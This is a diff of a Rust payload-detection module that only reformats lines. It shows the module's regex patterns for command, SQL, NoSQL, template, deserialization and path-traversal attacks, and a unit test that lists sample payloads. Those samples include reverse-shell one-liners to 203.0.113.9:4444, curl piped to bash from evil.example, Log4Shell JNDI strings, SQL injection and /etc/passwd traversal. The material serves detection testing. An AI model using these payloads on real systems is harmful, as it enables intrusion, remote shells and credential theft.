@@ -113,7 +113,10 @@ const PATTERNS: &[(Class, &str)] = &[
         Class::Command,
         r"(?:curl|wget)\s+(?:-\S+\s+)*\S+\s*\|\s*(?:ba)?sh\b",
     ),
-    (Class::Command, r"/dev/tcp/\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}/\d+"),
+    (
+        Class::Command,
+        r"/dev/tcp/\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}/\d+",
+    ),
     // SQL: a quote closing the literal, then the injected logic.
     (
         Class::Sql,
@@ -144,7 +147,10 @@ const PATTERNS: &[(Class, &str)] = &[
         Class::NoSql,
         r#"(?i)"(?:user(?:name)?|email|login|pass(?:word)?|pwd|token|pin|otp|code)"\s*:\s*\{\s*"\$(?:ne|gt|gte|lt|lte|regex|nin|exists|where|expr)"\s*:"#,
     ),
-    (Class::NoSql, r#""\$where"\s*:\s*"[^"]{0,200}(?:this\.|sleep\(|function|return|==)"#),
+    (
+        Class::NoSql,
+        r#""\$where"\s*:\s*"[^"]{0,200}(?:this\.|sleep\(|function|return|==)"#,
+    ),
     // Template injection: arithmetic probes and the known escapes.
     (Class::Template, r"\{\{\s*\d+\s*\*\s*\d+\s*\}\}"),
     (Class::Template, r"[$#]\{\s*\d+\s*\*\s*\d+\s*\}"),
@@ -194,7 +200,10 @@ const PATTERNS: &[(Class, &str)] = &[
         Class::Traversal,
         r"(?i)(?:%2e%2e|\.%2e|%2e\.)(?:%2f|%5c|/|\\)|\.\.(?:%2f|%5c|%255c|%252f|%c0%af|%c1%9c)|%252e%252e",
     ),
-    (Class::Traversal, r"/etc/(?:passwd|shadow)\b|/proc/self/environ\b"),
+    (
+        Class::Traversal,
+        r"/etc/(?:passwd|shadow)\b|/proc/self/environ\b",
+    ),
     (Class::Traversal, r"(?i)\bfile:///etc/"),
 ];
 
@@ -320,16 +329,17 @@ fn unescape_json(text: &str) -> Cow<'_, str> {
         let after = rest.get(i + 1..).unwrap_or("");
         let (replacement, used) = match after.as_bytes() {
             [b'"' | b'\'' | b'/' | b'\\', ..] => (after.get(..1).unwrap_or(""), 1),
-            [b'u', b'0', b'0', a, b, ..] => match (a.to_ascii_lowercase(), b.to_ascii_lowercase())
-            {
-                (b'2', b'2') => ("\"", 5),
-                (b'2', b'7') => ("'", 5),
-                (b'3', b'c') => ("<", 5),
-                (b'3', b'e') => (">", 5),
-                (b'2', b'6') => ("&", 5),
-                (b'6', b'0') => ("`", 5),
-                _ => ("\\", 0),
-            },
+            [b'u', b'0', b'0', a, b, ..] => {
+                match (a.to_ascii_lowercase(), b.to_ascii_lowercase()) {
+                    (b'2', b'2') => ("\"", 5),
+                    (b'2', b'7') => ("'", 5),
+                    (b'3', b'c') => ("<", 5),
+                    (b'3', b'e') => (">", 5),
+                    (b'2', b'6') => ("&", 5),
+                    (b'6', b'0') => ("`", 5),
+                    _ => ("\\", 0),
+                }
+            }
             _ => ("\\", 0),
         };
         out.push_str(replacement);
@@ -387,17 +397,26 @@ mod tests {
     fn payloads_fire() {
         let cases: &[(&str, Class)] = &[
             ("name=foo; cat /etc/passwd", Class::Command),
-            ("host=8.8.8.8 && curl http://203.0.113.9/x.sh", Class::Command),
+            (
+                "host=8.8.8.8 && curl http://203.0.113.9/x.sh",
+                Class::Command,
+            ),
             ("file=$(whoami).txt", Class::Command),
             ("q=`uname -a`", Class::Command),
             ("ip=127.0.0.1 | nc 203.0.113.9 4444", Class::Command),
             ("cmd=curl -s http://evil.example/a | bash", Class::Command),
-            ("x=;bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", Class::Command),
+            (
+                "x=;bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+                Class::Command,
+            ),
             ("{\"id\":\"1' OR 1=1--\"}", Class::Sql),
             ("user=admin' or '1'='1", Class::Sql),
             ("id=1%27%20OR%201%3D1--", Class::Sql),
             ("id=1' UNION SELECT NULL,NULL,NULL--", Class::Sql),
-            ("id=-1 union all select 1,2,group_concat(password)", Class::Sql),
+            (
+                "id=-1 union all select 1,2,group_concat(password)",
+                Class::Sql,
+            ),
             ("name=x'; DROP TABLE users;--", Class::Sql),
             ("id=1' AND SLEEP(5)--", Class::Sql),
             ("id=1; WAITFOR DELAY '0:0:5'--", Class::Sql),
@@ -407,23 +426,41 @@ mod tests {
                 r#"{"body":"{\"username\":\"admin\",\"password\":{\"$ne\":null}}"}"#,
                 Class::NoSql,
             ),
-            (r#"{"$where": "this.password.length > 0 || sleep(5000)"}"#, Class::NoSql),
+            (
+                r#"{"$where": "this.password.length > 0 || sleep(5000)"}"#,
+                Class::NoSql,
+            ),
             ("name={{7*7}}", Class::Template),
             ("name=${7*7}", Class::Template),
             ("name=#{7*7}", Class::Template),
             ("name=<%= 7*7 %>", Class::Template),
-            ("{{ ''.__class__.__mro__[1].__subclasses__() }}", Class::Template),
-            ("User-Agent: ${jndi:ldap://203.0.113.9:1389/a}", Class::Template),
+            (
+                "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+                Class::Template,
+            ),
+            (
+                "User-Agent: ${jndi:ldap://203.0.113.9:1389/a}",
+                Class::Template,
+            ),
             ("x=${${lower:j}ndi:ldap://203.0.113.9/a}", Class::Template),
-            ("data=rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ", Class::Deserialization),
+            (
+                "data=rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ",
+                Class::Deserialization,
+            ),
             ("0xaced00057372001a", Class::Deserialization),
             (r"payload=cos\nsystem\n(S'id'\ntR.", Class::Deserialization),
             (
                 r#"{"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}"#,
                 Class::Deserialization,
             ),
-            (r#"cart=O:8:"stdClass":1:{s:4:"file";s:11:"/etc/hosts";}"#, Class::Deserialization),
-            ("config: !!python/object/apply:os.system ['id']", Class::Deserialization),
+            (
+                r#"cart=O:8:"stdClass":1:{s:4:"file";s:11:"/etc/hosts";}"#,
+                Class::Deserialization,
+            ),
+            (
+                "config: !!python/object/apply:os.system ['id']",
+                Class::Deserialization,
+            ),
             ("file=../../../../etc/passwd", Class::Traversal),
             ("file=..%2f..%2f..%2fetc%2fshadow", Class::Traversal),
             ("file=%2e%2e%2f%2e%2e%2fvar/task/app.py", Class::Traversal),
@@ -431,7 +468,11 @@ mod tests {
             ("file=/proc/self/environ", Class::Traversal),
         ];
         for (text, class) in cases {
-            assert!(classes(text).contains(class), "{text}: {:?}", payloads(text));
+            assert!(
+                classes(text).contains(class),
+                "{text}: {:?}",
+                payloads(text)
+            );
         }
     }
 
